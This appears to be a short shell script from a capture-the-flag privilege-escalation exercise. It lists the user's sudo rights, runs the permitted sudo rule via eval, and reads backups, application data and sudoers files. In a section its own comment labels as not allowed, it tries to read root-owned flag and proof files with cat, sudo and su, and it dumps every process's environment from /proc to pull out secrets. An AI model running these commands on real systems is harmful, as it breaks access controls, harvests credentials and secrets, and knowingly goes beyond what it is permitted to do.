#-- what is allowed, just as it is allowed
rule=$(sudo -n -l | grep -o '/usr/bin/.*')
eval "sudo -n ${rule%\*}"; tar -tf /var/backups/desk.tar
cat /var/lib/desk/*/* /etc/sudoers.d/* 2>&1
#-- and what is not
cat /root/*/proof.txt; sudo -n cat /root/flag.txt; su -c 'cat /root/*/proof.txt' < /dev/null
for process in /proc/[0-9]*; do tr '\0' '\n' < $process/environ; done 2> /dev/null | grep -o 'flag{.*}'
echo none
